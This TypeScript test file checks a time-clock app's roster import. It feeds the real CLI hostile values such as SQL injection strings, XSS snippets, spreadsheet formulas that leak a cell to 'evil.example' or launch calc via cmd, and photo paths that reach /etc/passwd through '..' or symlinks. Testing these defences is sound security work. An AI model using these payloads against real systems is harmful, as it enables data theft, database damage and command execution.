import { execFileSync, spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import type pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ImportSummary } from '../../electron/roster/import-roster.js';
import { centralFactories, startMigrated, type TestCentral } from '../support/centrals.js';
import { recordTally } from '../support/fault-tally.js';
import { bbtPhoto } from '../support/faces.js';
import { runCli } from '../support/run-cli.js';

/**
 * Hostile roster files (issue 8), through the real `clockface roster import`: SQL metacharacters and other nasties
 * in every CSV field, photo paths that try to leave the photos folder, and what `clockface report` then writes.
 * A value is either stored byte-exactly or its row is refused with an error naming the line and the field; other
 * rows are never affected; the database is whole afterwards.
 */

const HEADER = ['employee_no', 'full_name', 'department', 'site', 'photos', 'pin'] as const;
type Row = Record<(typeof HEADER)[number], string>;

/** Values a name or department must survive byte for byte. */
const STORED_TEXT: Array<[string, string]> = [
  ['SQL: quote and DROP TABLE', "Robert'); DROP TABLE employees;--"],
  ['SQL: quotes of both kinds', `O'Brien "The Hammer" ''`],
  ['SQL: backslashes', 'C:\\temp\\new \\\' \\" \\\\'],
  ['SQL: comment and semicolon', 'a; b -- c /* d */ e'],
  ['SQL: UNION', "x' UNION SELECT pin_hash FROM employees --"],
  ['SQL: dollar quoting', '$$; DELETE FROM sites; $$ $tag$ x $tag$'],
  ['format strings', '%s%n%x ${process} {{7*7}} #{1}'],
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['unicode letters and emoji', 'José Müller 山田 太郎 Ñandú 👩‍💻'],
  ['right-to-left override', '\u202Eevil\u202C Smith'],
  ['zero-width characters', 'Ze\u200Bro\u200DWidth\uFEFF'],
  ['spreadsheet formula =', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ['spreadsheet formula +', '+1+cmd|\' /C calc\'!A0'],
  ['spreadsheet formula -', '-2+3'],
  ['spreadsheet formula @', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ['comma and quotes inside quotes', '"Quoted, Name ""Twice"""'],
  ['longest allowed (200)', 'L'.repeat(200)],
];

/** Values refused in a name or department: the row fails naming the field, and nothing of it is stored. */
const REFUSED_TEXT: Array<[string, string]> = [
  ['NUL byte', 'Nul\u0000Byte'],
  ['newline inside a quoted field', 'Two\nLines'],
  ['carriage return', 'Carriage\rReturn'],
  ['terminal escape', '\u001b[31mRed\u001b[0m'],
  ['tab', 'Tab\tInside'],
  ['DEL', 'Del\u007f'],
  ['too long (201)', 'L'.repeat(201)],
];

const FORMULA = /^[=+\-@\t\r]/;

function csvOf(rows: readonly Row[]): string {
  return stringify(rows.map((r) => HEADER.map((h) => r[h])), { header: true, columns: [...HEADER], quoted: true });
}

describe.each(centralFactories())('hostile roster input on $label', (factory) => {
  let central: TestCentral;
  let admin: pg.Client;
  let root: string;
  let photos: string;
  const cli = (args: string[]) => runCli(args, { CLOCKFACE_DATABASE_URL: central.url }, 240_000);
  const importCsv = async (name: string, csv: string) => {
    const file = join(root, name);
    writeFileSync(file, csv);
    const result = await cli(['roster', 'import', file, '--photos', photos, '--json']);
    return { result, summary: JSON.parse(result.stdout) as ImportSummary };
  };
  const tables = ['sites', 'employees', 'face_templates', 'roster_changes', 'kiosks', 'punches', 'punch_snapshots', 'face_models'];
  const expectDatabaseWhole = async (): Promise<void> => {
    for (const t of tables) {
      const { rows } = await admin.query<{ ok: boolean }>('SELECT to_regclass($1) IS NOT NULL AS ok', [`public.${t}`]);
      expect(rows[0]?.ok, t).toBe(true);
    }
  };

  beforeAll(async () => {
    central = await startMigrated(factory);
    admin = await central.connect();
    root = mkdtempSync(join(tmpdir(), 'clockface-hostile-roster-'));
    photos = join(root, 'photos');
    mkdirSync(join(photos, 'amy'), { recursive: true });
    copyFileSync(bbtPhoto('amy', 1), join(photos, 'amy', 'amy1.png'));
  });
  afterAll(async () => {
    await admin?.end();
    await central?.close();
    rmSync(root, { recursive: true, force: true });
  });

  it('metacharacters and nasties in every field: stored byte-exactly or the row refused naming line and field', async () => {
    const rows: Row[] = [];
    const stored = new Map<string, { full_name: string; department: string | null; site: string }>();
    const refused = new Map<string, { line: number; code: string; field: RegExp }>(); // by employee number
    const base = (no: string): Row => ({ employee_no: no, full_name: `Name ${no}`, department: 'Ops', site: 'hq', photos: '', pin: '' });
    // Line numbers as csv-parse counts them: a quoted newline makes a record span lines (errors name the last).
    let nextLine = 2;
    const add = (row: Row, outcome: { code: string; field: RegExp } | 'stored') => {
      rows.push(row);
      nextLine += HEADER.reduce((sum, h) => sum + (row[h].match(/\r\n|\r|\n/g)?.length ?? 0), 0);
      const line = nextLine;
      nextLine++;
      if (outcome === 'stored') {
        stored.set(row.employee_no.trim(), { full_name: row.full_name.trim(), department: row.department.trim() || null, site: row.site });
      } else refused.set(row.employee_no.trim(), { line, ...outcome });
    };
    let n = 0;
    for (const [, value] of STORED_TEXT) {
      add({ ...base(`N-${++n}`), full_name: value }, 'stored');
      add({ ...base(`D-${n}`), department: value }, 'stored');
    }
    for (const [, value] of REFUSED_TEXT) {
      add({ ...base(`RN-${++n}`), full_name: value }, { code: 'INVALID_FIELD', field: /full name/ });
      add({ ...base(`RD-${n}`), department: value }, { code: 'INVALID_FIELD', field: /department/ });
    }
    // Employee numbers: no spaces, control or invisible characters, up to 64; everything else kept as typed.
    const storedNumbers = [
      "';DROP/**/TABLE/**/employees;--",
      '"quoted"',
      'back\\slash',
      '=1+1',
      '+31-6',
      '-42',
      '@SUM(A1)',
      '山田-1',
      '<b>no</b>',
      '%s%n',
      'x'.repeat(64),
    ];
    for (const no of storedNumbers) add(base(no), 'stored');
    const refusedNumbers: Array<[string, string]> = [
      ["x'; DROP TABLE employees;--", 'INVALID_EMPLOYEE_NO'],
      ['zero\u200Bwidth', 'INVALID_EMPLOYEE_NO'],
      ['rtl\u202Eoverride', 'INVALID_EMPLOYEE_NO'],
      ['nul\u0000no', 'INVALID_EMPLOYEE_NO'],
      ['new\nline', 'INVALID_EMPLOYEE_NO'],
      ['x'.repeat(65), 'INVALID_EMPLOYEE_NO'],
    ];
    for (const [no, code] of refusedNumbers) add(base(no), { code, field: /employee number/ });
    // Sites: a code, never free text.
    for (const site of ["hq'; DROP TABLE sites;--", 'hq\u0000', '../etc', 'hq site', '-hq', 's'.repeat(65), '']) {
      add({ ...base(`S-${++n}`), site }, { code: 'INVALID_SITE', field: /site/ });
    }
    add({ ...base(`S-${++n}`), site: 'a.b-c_D9' }, 'stored');
    // PINs: 4 to 8 ASCII digits.
    for (const pin of ["1234'; --", '1234 OR 1=1', '١٢٣٤', '12\u00003', '123', '123456789', '0x1234']) {
      add({ ...base(`P-${++n}`), pin }, { code: 'INVALID_PIN', field: /pin/i });
    }
    add({ ...base(`P-${++n}`), pin: '00000000' }, 'stored');
    // A new PIN needs 6 digits (kiosks hold the hashes; 4 digits fall to an offline search in minutes).
    for (const pin of ['1234', '12345']) add({ ...base(`P-${++n}`), pin }, { code: 'INVALID_PIN', field: /6 to 8 digits/ });
    // Photo paths with metacharacters: not found (never interpreted), or refused for control characters.
    add({ ...base(`F-${++n}`), photos: "'; DROP TABLE face_templates;--.png" }, { code: 'PHOTO_MISSING', field: /photo/ });
    add({ ...base(`F-${++n}`), photos: 'amy/amy1.png\u0000.txt' }, { code: 'INVALID_FIELD', field: /photos/ });
    add({ ...base(`F-${++n}`), photos: 'amy/amy1.png\n../x.png' }, { code: 'INVALID_FIELD', field: /photos/ });
    // One row with a hostile value in every field at once, still valid: all stored as given.
    add(
      { employee_no: "'\";--", full_name: "=cmd|' /C calc'!A0 '); DROP TABLE employees;--", department: '@\\"\'', site: 'x-1', photos: '', pin: '123456' },
      'stored',
    );

    const csv = csvOf(rows);
    const { result, summary } = await importCsv('hostile.csv', csv);
    expect(result.code, result.stderr).toBe(1);
    expect(summary.rows).toBe(rows.length);
    expect(summary.created).toBe(stored.size);
    expect(summary.failed).toBe(refused.size);
    const errorsByNo = new Map(summary.errors.map((e) => [e.employeeNo, e]));
    for (const [no, want] of refused) {
      const got = errorsByNo.get(no || null);
      expect(got?.code, JSON.stringify(no)).toBe(want.code);
      expect(got?.reason, JSON.stringify(no)).toMatch(want.field);
      expect(got?.line, JSON.stringify(no)).toBe(want.line);
    }

    // Byte-exact: what is in the database is what was in the file (trimmed, as documented), nothing more.
    const { rows: inDb } = await admin.query<{ employee_no: string; full_name: string; department: string | null; site: string }>(
      'SELECT employee_no, full_name, department, site FROM employees',
    );
    expect(new Map(inDb.map((r) => [r.employee_no, { full_name: r.full_name, department: r.department, site: r.site }]))).toEqual(stored);
    for (const r of inDb) {
      const want = stored.get(r.employee_no);
      expect(Buffer.from(r.full_name, 'utf8').equals(Buffer.from(want?.full_name ?? '', 'utf8'))).toBe(true);
    }
    await expectDatabaseWhole();
    const counts = await admin.query<{ sites: number; changes: number; templates: number }>(
      `SELECT (SELECT count(*)::int FROM sites) AS sites, (SELECT count(*)::int FROM roster_changes) AS changes,
              (SELECT count(*)::int FROM face_templates) AS templates`,
    );
    expect(counts.rows[0]).toEqual({ sites: new Set([...stored.values()].map((s) => s.site)).size, changes: stored.size, templates: 0 });

    // The same file again changes nothing: the hostile values compare equal to what was stored.
    const again = await importCsv('hostile.csv', csv);
    expect(again.summary).toMatchObject({ created: 0, updated: 0, unchanged: stored.size, failed: refused.size });

    // The other IT commands take the same values as arguments without harm.
    const show = await cli(['employee', 'show', "';DROP/**/TABLE/**/employees;--", '--json']);
    expect(show.code, show.stderr).toBe(0);
    expect(show.stdout).toContain(JSON.stringify("';DROP/**/TABLE/**/employees;--"));
    for (const no of ["x' OR '1'='1", '%']) {
      const r = await cli(['employee', 'show', no]);
      expect(r.code, no).toBe(1);
      expect(r.stderr).toMatch(/no employee/i);
    }
    const report = await cli(['report', '--from', '2026-01-01', '--to', '2026-01-02', '--site', "hq'; DROP TABLE punches;--"]);
    expect([0, 1]).toContain(report.code);
    await expectDatabaseWhole();
    expect((await admin.query('SELECT count(*)::int AS n FROM employees')).rows[0]).toEqual({ n: stored.size });

    const values = STORED_TEXT.length * 2 + storedNumbers.length + 2 + 1;
    recordTally({ area: 'hostile', kind: 'roster CSV: metacharacters stored byte-exactly', count: values, outcome: 'stored as given; re-import unchanged' });
    recordTally({
      area: 'hostile',
      kind: 'roster CSV: values refused (control chars, too long, bad number/site/PIN/path)',
      count: refused.size,
      outcome: 'row refused naming line and field; other rows imported; database whole',
    });
    recordTally({ area: 'hostile', kind: 'CLI arguments with SQL metacharacters', count: 4, outcome: 'not found / nothing matched; database whole' });
  });

  it('photo paths escaping the photos folder are refused, and nothing outside is read', async () => {
    const outside = join(root, 'outside');
    mkdirSync(outside, { recursive: true });
    copyFileSync(bbtPhoto('sheldon', 1), join(outside, 'face.png'));
    // A FIFO outside: anything that opened it for reading would hang the import, so a finished import proves it
    // was never opened.
    const fifo = spawnSync('mkfifo', [join(outside, 'pipe.png')]);
    expect(fifo.status, 'mkfifo (coreutils) is needed').toBe(0);
    spawnSync('mkfifo', [join(photos, 'inside-pipe.png')]);
    symlinkSync(join(outside, 'face.png'), join(photos, 'link-out.png'));
    symlinkSync('../outside/face.png', join(photos, 'relative-link-out.png'));
    symlinkSync(outside, join(photos, 'linked-dir'));
    symlinkSync(join(outside, 'pipe.png'), join(photos, 'link-to-pipe.png'));
    symlinkSync('/dev/zero', join(photos, 'zero.png'));
    symlinkSync('/etc/passwd', join(photos, 'passwd.png'));
    symlinkSync('loop.png', join(photos, 'loop.png'));

    // [path, code, reason]: a path that leaves the folder by its text is caught before the file system is asked;
    // one that leaves through a link is caught by where it really leads.
    const out = /is outside the photos folder/;
    const link = /links outside the photos folder/;
    const cases: Array<[string, string, RegExp]> = [
      ['../outside/face.png', 'PHOTO_OUTSIDE_FOLDER', out],
      ['amy/../../outside/face.png', 'PHOTO_OUTSIDE_FOLDER', out],
      ['..', 'PHOTO_OUTSIDE_FOLDER', out],
      ['.', 'PHOTO_OUTSIDE_FOLDER', out],
      [join(outside, 'face.png'), 'PHOTO_OUTSIDE_FOLDER', out],
      ['/etc/passwd', 'PHOTO_OUTSIDE_FOLDER', out],
      [join(photos, '..', 'outside', 'face.png'), 'PHOTO_OUTSIDE_FOLDER', out],
      ['link-out.png', 'PHOTO_OUTSIDE_FOLDER', link],
      ['relative-link-out.png', 'PHOTO_OUTSIDE_FOLDER', link],
      ['linked-dir/face.png', 'PHOTO_OUTSIDE_FOLDER', link],
      ['link-to-pipe.png', 'PHOTO_OUTSIDE_FOLDER', link],
      ['zero.png', 'PHOTO_OUTSIDE_FOLDER', link],
      ['passwd.png', 'PHOTO_OUTSIDE_FOLDER', link],
      ['inside-pipe.png', 'PHOTO_MISSING', /is not a file/],
      ['loop.png', 'PHOTO_MISSING', /not found/],
      ['amy%2F..%2F..%2Foutside%2Fface.png', 'PHOTO_MISSING', /not found/],
      ['file:///etc/passwd', 'PHOTO_MISSING', /not found/],
      ['amy/amy1.png\u0000../../outside/face.png', 'INVALID_FIELD', /photos: a path contains control characters/],
      // A good photo and an escaping one in the same row: the row is refused whole.
      ['amy/amy1.png;../outside/face.png', 'PHOTO_OUTSIDE_FOLDER', out],
    ];
    const rows: Row[] = cases.map(([path], i) => ({ employee_no: `PATH-${i}`, full_name: `Path ${i}`, department: '', site: 'paths', photos: path, pin: '' }));
    rows.push({ employee_no: 'PATH-OK', full_name: 'Amy Inside', department: '', site: 'paths', photos: 'amy/amy1.png', pin: '' });
    const { result, summary } = await importCsv('paths.csv', csvOf(rows));
    expect(result.code, result.stderr).toBe(1);
    const byNo = new Map(summary.errors.map((e) => [e.employeeNo, e]));
    cases.forEach(([path, code, reason], i) => {
      const error = byNo.get(`PATH-${i}`);
      expect(error?.code, path).toBe(code);
      expect(error?.reason, path).toMatch(reason);
      expect(error?.line).toBe(i + 2);
    });
    expect(summary).toMatchObject({ created: 1, failed: cases.length, templatesAdded: 1 });
    const { rows: inDb } = await admin.query<{ employee_no: string; templates: number }>(
      `SELECT e.employee_no, count(t.id)::int AS templates FROM employees e LEFT JOIN face_templates t ON t.employee_id = e.id
       WHERE e.employee_no LIKE 'PATH-%' GROUP BY 1`,
    );
    // Sheldon's face, outside the folder, was never read: only Amy's template exists.
    expect(inDb).toEqual([{ employee_no: 'PATH-OK', templates: 1 }]);
    await expectDatabaseWhole();
    recordTally({ area: 'hostile', kind: 'photo paths escaping the photos folder (.., absolute, links, FIFO, NUL)', count: cases.length, outcome: 'row refused (PHOTO_OUTSIDE_FOLDER / PHOTO_MISSING / INVALID_FIELD); nothing outside read' });
  });

  it('report CSV: names stay intact column by column, and spreadsheet formulas are neutralised', async () => {
    await admin.query("INSERT INTO sites (code, name, time_zone) VALUES ('rep', 'rep', 'UTC') ON CONFLICT DO NOTHING");
    const names = [
      '=HYPERLINK("http://evil.example","click")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      "Robert'); DROP TABLE employees;--",
      '"Quoted, Name ""Twice"""',
      'José Müller 山田 👩‍💻',
      'Plain Name',
    ];
    const ids: number[] = [];
    for (const [i, name] of names.entries()) {
      const { rows } = await admin.query<{ id: string }>(
        "INSERT INTO employees (employee_no, full_name, site) VALUES ($1, $2, 'rep') RETURNING id::text",
        [i === 0 ? '=1+2' : `REP-${i}`, name],
      );
      ids.push(Number(rows[0]?.id));
    }
    const kiosk = await admin.query<{ id: string }>(
      "INSERT INTO kiosks (name, role_name, site) VALUES ('rep-kiosk', 'clockface_hostile_no_such_role', 'rep') RETURNING id::text",
    );
    const kioskId = Number(kiosk.rows[0]?.id);
    for (const id of ids) {
      await admin.query(
        `INSERT INTO punches (id, employee_id, kiosk_id, direction, punched_at, method)
         VALUES (gen_random_uuid(), $1, $2, 'in', '2026-03-02T08:00:00Z', 'pin'), (gen_random_uuid(), $1, $2, 'out', '2026-03-02T16:30:00Z', 'pin')`,
        [id, kioskId],
      );
    }
    const out = join(root, 'report.csv');
    const csv = await cli(['report', '--from', '2026-03-02', '--to', '2026-03-02', '--site', 'rep', '--out', out]);
    expect(csv.code, csv.stderr).toBe(0);
    const json = await cli(['report', '--from', '2026-03-02', '--to', '2026-03-02', '--site', 'rep', '--format', 'json']);
    expect(json.code, json.stderr).toBe(0);
    const jsonRows = JSON.parse(json.stdout) as Array<{ employeeNo: string; fullName: string; workedHours: number }>;
    // JSON is data, not a spreadsheet: byte-exact.
    expect(jsonRows.map((r) => r.fullName).sort()).toEqual([...names].sort());
    const cells = parse(readFileSync(out, 'utf8'), { columns: true }) as Array<Record<string, string>>;
    // Every row has all its columns (quotes, commas and newlines did not shift anything).
    expect(cells).toHaveLength(names.length);
    for (const row of cells) {
      expect(Object.keys(row)).toEqual(['employee_no', 'full_name', 'site', 'day', 'first_in', 'last_out', 'worked_hours', 'flags']);
      expect(row['worked_hours']).toBe('8.50');
      // No cell a spreadsheet would run as a formula (OWASP: prefix = + - @ tab CR with a quote).
      for (const [column, value] of Object.entries(row)) expect(value, `${column}: ${value}`).not.toMatch(FORMULA);
    }
    const shown = cells.map((r) => r['full_name'] ?? '');
    for (const name of names) expect(shown).toContain(FORMULA.test(name) ? `'${name}` : name);
    expect(cells.map((r) => r['employee_no'])).toContain("'=1+2");
    recordTally({ area: 'hostile', kind: 'report CSV: formula-injection names (= + - @)', count: 5, outcome: "neutralised with a leading ' in CSV; JSON byte-exact" });
  });

  it('a roster "file" that never ends (/dev/zero, a FIFO) or is far too large is refused before it is read', async () => {
    const fifo = join(root, 'roster.fifo');
    execFileSync('mkfifo', [fifo]);
    const huge = join(root, 'huge.csv');
    // Sparse: 65 MB that takes no disk.
    writeFileSync(huge, 'employee_no,full_name,site\n');
    truncateSync(huge, 65 * 2 ** 20);
    for (const [file, reason] of [
      ['/dev/zero', /not a regular file/],
      [fifo, /not a regular file/],
      [huge, /larger than 64 MB/],
    ] as const) {
      const result = await cli(['roster', 'import', file, '--photos', photos]);
      expect(result.code, file).toBe(1);
      expect(result.stderr, file).toMatch(reason);
    }
    await expectDatabaseWhole();
    recordTally({ area: 'hostile', kind: 'roster file that never ends or is too large (/dev/zero, FIFO, 65 MB)', count: 3, outcome: 'refused before reading (ROSTER_INVALID)' });
  });
});
